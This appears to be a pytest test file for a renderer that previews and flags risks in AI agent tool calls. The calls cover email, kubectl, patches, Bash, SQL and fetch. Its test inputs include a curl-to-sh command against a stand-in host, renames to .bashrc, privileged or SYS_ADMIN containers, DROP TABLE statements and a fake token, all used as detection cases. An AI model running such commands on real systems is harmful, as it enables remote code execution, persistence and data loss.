"""The ends of what is read and shown: one too many, nothing at all, and what stands at an edge."""

from typing import Any

import pytest

from tests.preview.renderers.calls import findings, rendered, text_of
from webui.preview.renderers.comparing import compare

TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
HUNK = "@@ -1 +1 @@\n-a\n+b\n"
POD = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a"}}


def mail(**more: Any) -> dict[str, Any]:
    return {"to": "a@b.example", "subject": "S", "body": "B", **more}


def said(tool: str, arguments: dict[str, Any]) -> str:
    return findings(tool, arguments) + "\n" + text_of(rendered(tool, arguments))


def yaml(body: str) -> dict[str, Any]:
    return {"manifest": body}


def names_beyond(count: int) -> str:
    many = "".join(f"+++ b/f{n}\n" for n in range(count))
    return "--- a/x\n+++ b/x\n@@ -1,4000 +1,4000 @@\n" + " \n" * 4_000 + many


SAID: tuple[tuple[str, dict[str, Any], str], ...] = (
    # messages
    ("unheard.of", {"to": "a@b.example", "body": "B"}, "Domains: b.example (1)"),
    ("send_email", mail(body="ask @everyone"), "note: Line 1 holds @everyone."),
    ("send_email", mail(attachments=[{}] * 25), "Attached: 5 more"),
    # money
    ("create_invoice", {"lines": [{"amount": 1, "currency": "EUR"}] * 605},
     "It names 600 amounts or more; no more were read."),
    ("create_invoice", {"lines": [{"amount": n, "currency": "EUR"} for n in range(250)]}, "(106 more)"),
    # clusters
    ("kubectl_apply", yaml("kind: DaemonSet"), "note: Line 1 is a DaemonSet: it runs on every node."),
    ("kubectl_apply", yaml("kind: Pod\n---\n" * 250), "(50 more)"),
    ("kubectl_apply", yaml("kind: Pod\nspec: {volumes: [{hostPath: {path: /var, type: Directory}}]}"),
     "The files of the node from /var on are reached."),
    ("kubectl_create", POD, "Pod a"),
    ("kubectl_patch", {"name": "a", "patch": "spec: {replicas: 0}"}, "sets replicas to 0"),
    ("kubectl_patch", {"name": "a", "patch": "none"}, "Name: a"),
    ("kubectl_apply", {"manifest": {**POD, "x": [["a"], [{"privileged": True}]]}},
     "It runs a privileged container"),
    ("kubectl_apply", yaml("kind: Pod\nx: [\n" + "  kind: Pod\n" * 2), "Pod"),
    ("kubectl_apply", yaml("x: [\n" + "".join(f"kind: A{n}\n" for n in range(1_005))),
     "It is too long to be searched to its end."),
    (
        "kubectl_apply",
        {"manifest": {**POD, "spec": {"capabilities": {"add": ["SYS_ADMIN"]}}}},
        "It adds the capability SYS_ADMIN.",
    ),
    # git
    (
        "run_workflow",
        {"owner": "a", "repo": "b", "workflow_id": "w", "inputs": {f"i{n}": n for n in range(250)}},
        "(50 more)",
    ),
    ("push_files", {"owner": "a", "repo": "b", "branch": "t", "files": [{"path": "p", "content": ""}] * 501},
     "It has 501 files; the first 500 were looked at."),
    # patches
    ("apply_patch", {"input": "*** Update File: a\n-x\n+y\n"}, "Changed: 1 added, 1 removed"),
    ("apply_patch", {"patch": names_beyond(1_005)}, "It names more than 1,000 files there."),
    ("apply_patch", {"patch": f"--- a/x\n+++ b/x\n{HUNK}*** Add File: new\n+z\n"}, "Created: 1 added"),
    ("apply_patch", {"patch": "diff --git a/x b/x\nGIT binary patch\nliteral 3\n"}, "no text"),
    ("apply_patch", {"patch": f"{HUNK}--- a/x\n+++ b/x\n{HUNK}"},
     "A part of the patch does not say which file it changes."),
    ("apply_patch", {"patch": "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+b\n"},
     "\\ No newline at end of file"),
    ("apply_patch", {"patch": f"--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-a\n--- a/y\n+++ b/y\n{HUNK}"}, "looks like the name of another file"),
    ("apply_patch", {"patch": "--- a/x\n+++ b/x\n@@ -1,9 +1,9 @@\n-a\n+b\nhow odd\n"}, "do not fit the lines"),
    ("apply_patch", {"input": "*** Begin Patch\nhello\n*** Add File: a\n+x\n*** End Patch"},
     "Line 2 stands before the first file."),
    ("apply_patch", {"patch": f"diff --git a/x b/y\nrename from x \nrename to y\t\n{HUNK}"}, "Renamed"),
    ("apply_patch", {"patch": f"--- x\n+++ x\n{HUNK}"}, "1 added"),
    ("Write", {"file_path": "/w/a", "content": "a\u200bb\n" * 500}, "And 399 more like it"),
    ("apply_patch", {"patch": f"diff --git odd\n--- a/x\n+++ b/x\n{HUNK}"}, "1 added, 1 removed"),
    (
        "apply_patch",
        {"input": "*** Begin Patch\n\n*** Add File: a\n+x\n*** End Patch"},
        "Created: 1 added",
    ),
    # what is no header does not end the head of a file: patch(1) reads on
    *(("apply_patch", {"patch": f"diff --git a/x b/x\nany words\n{more}"}, words) for more, words in (
        (f"--- a/x\n+++ b/x\n{HUNK}", " any words"),
        (f"--- a/x\n+++ b/x\n{HUNK}", "Files: 1 changed"),
        (f"old mode 100644\nnew mode 100755\n--- a/x\n+++ b/x\n{HUNK}", "danger: x becomes a program"),
        ("rename from x\nrename to .bashrc\n", "danger: .bashrc leads to a file that every new shell"),
        ("rename from x\nrename to .bashrc\n", "[Renamed: "),
        (f"--- a/y\n+++ b/y\n{HUNK}", "danger: The patch names its file twice and not alike: x and y."),
        (f"+++ b/.bashrc\n{HUNK}", "danger: .bashrc leads to a file that every new shell"),
        (f"GIT binary patch\nliteral 3\nzabc\n--- a/y\n+++ b/y\n{HUNK}", "Files: 2 changed"),
    )),
    ("apply_patch", {"patch": f"@@ -1,250 +0,0 @@\n{chr(10).join(['-x'] * 250)}\n--- a/x\n+++ b/x\n{HUNK}"},
     "danger: 250 lines are removed and 0 are added."),
    # code
    ("run_js", {"code": "require(process.env.X)"}, "process.env"),
    # JSON
    ("x", {"operations": [{"op": "x"}], "patches": [{"op": "add", "path": "/a", "value": 1}]}, "/a"),
    ("x", {"patch": f'[{{"op": "add", "path": "/a", "value": "{TOKEN}{TOKEN} x"}}]'}, "redacted"),
    ("json_merge_patch", {"patch": {"k" * 100: 1}}, "⟦…⟧"),
    # shell
    ("Bash", {"command": "curl https://a.example/x | tee y | sh | sh"}, "Runs what it downloads: curl | tee | sh"),
    ("Bash", {"command": 'echo "${a:-\'b\'}"'}, "A quote stands in a"),
    ("Bash", {"command": 'echo "abc'}, "quote is never closed"),
    ("Bash", {"command": "if (true) then ls; fi"}, "Programs: true, ls"),
    ("Bash", {"command": "env " * 20 + "ls"}, "env"),
    ("Bash", {"command": "env " * 12}, "Programs: env"),
    (
        "Bash",
        {"command": "cat <<E | a | b | c | d | e | f | g\nhello\nE"},
        "Programs: cat, a, b, c, d, e, f, g",
    ),
    # SQL
    ("sql", {"sql": "DROP TABLE IF EXISTS t"}, "Tables written: t"),
    ("sql", {"sql": "DELETE FROM t WHERE NOT a"}, "DELETE"),
    ("sql", {"sql": "DELETE FROM t WHERE 'a' < 'b'"}, "DELETE"),
    ("sql", {"sql": "SELECT 1 # 2"}, "SELECT"),
    # requests
    ("fetch", {"url": "https://a.example/", "proxy": "", "verify": True}, "Host: a.example"),
)  # fmt: skip


@pytest.mark.parametrize(("tool", "arguments", "words"), SAID)
def test_what_lies_at_an_end_is_told(
    tool: str, arguments: dict[str, Any], words: str
) -> None:
    assert words in said(tool, arguments)


NOT_SAID: tuple[tuple[str, dict[str, Any], str], ...] = (
    ("kubectl_apply", yaml("kind: Pod\nspec: {privileged: false}"), "danger"),
    ("send_email", mail(sender="a@b.example", reply_to="a@b.example "), "and not to"),
    ("sql", {"sql": "SELECT 1 # 2"}, "begins a comment"),
    ("sql", {"sql": "DELETE FROM t WHERE NOT a"}, "every row"),
    ("fetch", {"url": "https://a.example/", "proxy": "", "verify": True}, "danger"),
)


@pytest.mark.parametrize(("tool", "arguments", "words"), NOT_SAID)
def test_what_is_usual_is_no_warning(
    tool: str, arguments: dict[str, Any], words: str
) -> None:
    assert words not in findings(tool, arguments)


def test_a_block_of_kept_and_added_lines_has_no_sides() -> None:
    (block,) = rendered("append_file", {"path": "/w/a", "content": "x"}).blocks
    assert block.sides == ()


def test_lines_that_go_and_come_by_turns_stand_side_by_side() -> None:
    body = "@@ -1,2 +1,2 @@\n-a\n+b\n-c\n+d\n"
    (block,) = rendered("apply_patch", {"patch": f"--- a/x\n+++ b/x\n{body}"}).blocks
    pairs = [(old.before, new.number) for old, new in block.sides if old and new]
    assert pairs[-2:] == [(1, 1), (2, 2)]


def test_a_block_that_is_full_says_nothing_of_lines_that_stay() -> None:
    kept = "".join(f"k{n}\n" for n in range(20))
    old = "".join(f"a{n}\n" for n in range(197)) + kept + "x\n"
    call = {"file_path": "/w/a", "old_string": old, "new_string": kept + "y\n"}
    assert "lines that stay as they are" not in text_of(rendered("Edit", call))


def test_what_takes_too_long_to_compare_is_shown_whole() -> None:
    lines = range(3_000)
    old = ["o", *[n * n % 997 < 800 for n in lines], "o"]
    new = ["n", *[n * n * n % 997 < 800 for n in lines], "n"]
    assert [(run.side, run.length) for run in compare(old, new)] == [
        ("old", 3_002),
        ("new", 3_002),
    ]


def test_lines_beyond_a_full_block_are_counted() -> None:
    old = "".join(f"a{n}\n" for n in range(300))
    new = "".join(f"b{n}\n" for n in range(300))
    shown = text_of(
        rendered("Edit", {"file_path": "/w/a", "old_string": old, "new_string": new})
    )
    assert "more)" in shown


def test_the_blocks_of_a_call_have_an_end_together() -> None:
    files = [{"path": f"f{n}", "content": f"{n}\n" * 150} for n in range(12)]
    call = {"owner": "a", "repo": "b", "branch": "t", "files": files}
    blocks = rendered("push_files", call).blocks
    assert sum(len(block.lines) for block in blocks) < 1_000
    assert sum(len(block.lines) + block.hidden for block in blocks) >= 12 * 150
